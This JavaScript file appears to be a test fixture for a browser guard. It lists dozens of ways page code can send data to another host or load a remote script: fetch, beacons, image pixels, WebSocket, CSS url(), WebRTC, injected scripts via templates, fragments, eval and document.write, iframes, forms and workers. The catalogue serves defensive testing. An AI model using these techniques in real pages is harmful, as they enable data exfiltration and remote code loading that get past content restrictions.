/**
 * Ways in which code of the page sends something to another host, or runs a script from there. `url` is an address
 * there, of its own for each attempt; `${url}.js` is a script. `add(tag, values)` puts an element into the body, `frame()`
 * makes an `<iframe>`.
 */
const send = (id, does, run) => ({id, does, run});
/** The same for what no page can hold back; `told` begins what the guard says of it. */
const beyond = (told, ...attempt) => ({...send(...attempt), told});

const calls = [
  send('fetch', '`fetch`', ({url}) => fetch(url, {mode: 'no-cors'})),
  send('fetch-keepalive', '`fetch` with `keepalive`', ({url}) => fetch(url, {mode: 'no-cors', keepalive: true})),
  send('fetch-frame', "a frame's `fetch`", ({url, frame}) =>
    document.body.appendChild(frame()).contentWindow.fetch(url, {mode: 'no-cors'}),
  ),
  send('xhr', '`XMLHttpRequest`', ({url}) => {
    const request = new XMLHttpRequest();
    request.open('GET', url);
    request.send();
  }),
  send('beacon', '`sendBeacon`', ({url}) => navigator.sendBeacon(url, 'x')),
  send('image', '`new Image`', ({url}) => {
    new Image().src = url;
  }),
  send('image-frame', "a frame's `Image`", ({url, frame}) => {
    new (document.body.appendChild(frame()).contentWindow.Image)().src = url;
  }),
  send('socket', '`WebSocket`', ({url}) => new WebSocket(url.replace('http', 'ws'))),
  send('events', '`EventSource`', ({url}) => new EventSource(url)),
  send('font-face', '`FontFace.load()`', ({url}) => new FontFace('evil', `url(${url})`).load()),
  send('sheet', "an adopted stylesheet's `url()`", async ({url}) => {
    const sheet = new CSSStyleSheet();
    await sheet.replace(`h1 { background-image: url(${url}) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  }),
  send('style-property', '`style.setProperty` with `url()`', ({url}) =>
    document.body.style.setProperty('background-image', `url(${url})`),
  ),
  {
    id: 'peer',
    does: '`RTCPeerConnection` (a STUN packet)',
    proof: 'packets',
    run: async ({stun}) => {
      const peer = new RTCPeerConnection({iceServers: [{urls: stun}]});
      peer.createDataChannel('evil');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
];

const scripts = [
  send('script-element', '`createElement("script")`', ({url, add}) => add('script', {src: `${url}.js`})),
  send('script-ns', '`createElementNS`', ({url}) => {
    const script = document.createElementNS('http://www.w3.org/1999/xhtml', 'script');
    script.setAttribute('src', `${url}.js`);
    document.head.insertBefore(script, document.head.firstChild);
  }),
  send('script-svg', 'an SVG `<script href>`', ({url, add}) => {
    const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
    script.setAttribute('href', `${url}.js`);
    add('div').appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg')).append(script);
  }),
  send('script-fragment', 'in a `DocumentFragment`', ({url}) => {
    const fragment = new DocumentFragment();
    fragment.append(Object.assign(document.createElement('script'), {src: `${url}.js`}));
    document.body.append(fragment);
  }),
  send('script-adopted', "another document's, by `adoptNode`", ({url}) => {
    const other = document.implementation.createHTMLDocument('');
    const script = Object.assign(other.createElement('script'), {src: `${url}.js`});
    document.body.append(document.adoptNode(script));
  }),
  send('script-range', '`createContextualFragment`', ({url}) =>
    document.body.append(document.createRange().createContextualFragment(`<script src="${url}.js"></script>`)),
  ),
  send('script-template', 'a clone of a `<template>`', ({url}) => {
    const template = document.createElement('template');
    template.content.append(Object.assign(document.createElement('script'), {src: `${url}.js`}));
    document.body.append(template.content.cloneNode(true));
  }),
  send('script-cloned', '`cloneNode` of an inert script', ({url, add}) => {
    const script = add('script', {type: 'text/plain', src: `${url}.js`}).cloneNode();
    script.removeAttribute('type');
    document.body.append(script);
  }),
  send('script-written', '`document.write` while parsing', ({url}) =>
    document.write(`<script src="${url}.js"></` + 'script>'),
  ),
  send('script-frame', 'in a fresh frame', ({url, frame}) => {
    const inner = document.body.appendChild(frame()).contentDocument;
    inner.body.append(Object.assign(inner.createElement('script'), {src: `${url}.js`}));
  }),
  send('import', 'dynamic `import()`', ({url}) => import(`${url}.js`)),
  send('script-fetched', '`fetch`, then `eval`', async ({url}) => (0, eval)(await (await fetch(`${url}.js`)).text())),
];

const markup = [
  send('inner-html', '`innerHTML` with `<img>`', ({url, add}) => {
    add('div').innerHTML = `<img src="${url}">`;
  }),
  send('detached', '`innerHTML` of an element that is not in the page', ({url}) => {
    document.createElement('div').innerHTML = `<img src="${url}">`;
  }),
  send('set-html', '`setHTMLUnsafe` with `<img>`', ({url, add}) => add('div').setHTMLUnsafe(`<img src="${url}">`)),
  send('iframe', '`<iframe src>`', ({url, add}) => add('iframe', {src: url})),
  send('iframe-location', "a frame's `location`", ({url, frame}) => {
    document.body.appendChild(frame()).contentWindow.location = url;
  }),
  send('iframe-srcdoc', '`<img>` in a `srcdoc`', ({url, add}) => add('iframe', {srcdoc: `<img src="${url}">`})),
  send('iframe-blob', 'a frame of a `blob:` page', ({url, add}) =>
    add('iframe', {src: URL.createObjectURL(new Blob([`<img src="${url}">`], {type: 'text/html'}))}),
  ),
  send('iframe-own-page', "a page of the site's own in a frame, without our file", ({url, add}) =>
    add('iframe', {src: `/bare?send=${url}`}),
  ),
  send('form', 'a form, sent into a hidden frame', ({url, add}) => {
    add('iframe', {name: 'sink'});
    add('form', {action: url, method: 'post', target: 'sink'}).submit();
  }),
  send('embed', '`<embed src>`', ({url, add}) => add('embed', {src: url, type: 'image/gif'})),
  send('object', '`<object data>`', ({url, add}) => add('object', {data: url})),
  send('video', '`<video src>`', ({url, add}) => add('video', {src: url, preload: 'auto'})),
  send('audio', '`new Audio`', ({url}) => new Audio(url).load()),
  send('use', 'SVG `<feImage>`', ({url, add}) => {
    add('div').innerHTML =
      `<svg width="9" height="9"><filter id="evil"><feImage href="${url}"/></filter>` +
      '<rect width="9" height="9" filter="url(#evil)"/></svg>';
  }),
  beyond('hint', 'speculation', 'speculation rules', ({url}) => {
    const script = document.createElement('script');
    script.type = 'speculationrules';
    script.text = JSON.stringify({prefetch: [{source: 'list', urls: [url], eagerness: 'immediate'}]});
    document.head.append(script);
  }),
  send('ping', '`<a ping>`', ({url, add}) => add('a', {href: '#here', ping: url}).click()),
];

const workers = [
  send(
    'worker-blob',
    '`fetch` in a worker from a `blob:`',
    ({url}) => new Worker(URL.createObjectURL(new Blob([`fetch('${url}', {mode: 'no-cors'})`]))),
  ),
  send(
    'worker-import',
    '`importScripts` in a worker from a `blob:`',
    ({url}) => new Worker(URL.createObjectURL(new Blob([`importScripts('${url}.js')`]))),
  ),
  send(
    'worker-data',
    '`fetch` in a worker from a `data:`',
    ({url}) => new Worker(`data:text/javascript,fetch('${url}', {mode: 'no-cors'})`),
  ),
  beyond(
    'worker',
    'worker-own',
    "`fetch` in a worker from a file of the site's own",
    ({url}) => new Worker(`/worker.js?send=${url}`),
  ),
  beyond(
    'worker',
    'worker-shared',
    'the same in a `SharedWorker`',
    ({url}) => new SharedWorker(`/worker.js?send=${url}`),
  ),
  beyond('worker', 'worker-service', 'the same in a service worker', ({url}) =>
    navigator.serviceWorker.register(`/worker.js?send=${url}`),
  ),
];

/** To a host that no service declares. */
const undeclared = [
  send('undeclared-fetch', '`fetch`', ({url}) => fetch(url, {mode: 'no-cors'})),
  send('undeclared-image', '`new Image`', ({url}) => {
    new Image().src = url;
  }),
  send('undeclared-script', '`createElement("script")`', ({url, add}) => add('script', {src: `${url}.js`})),
].map((attempt) => ({...attempt, isUndeclared: true}));

export const SENDING = [...calls, ...scripts, ...markup, ...workers, ...undeclared];
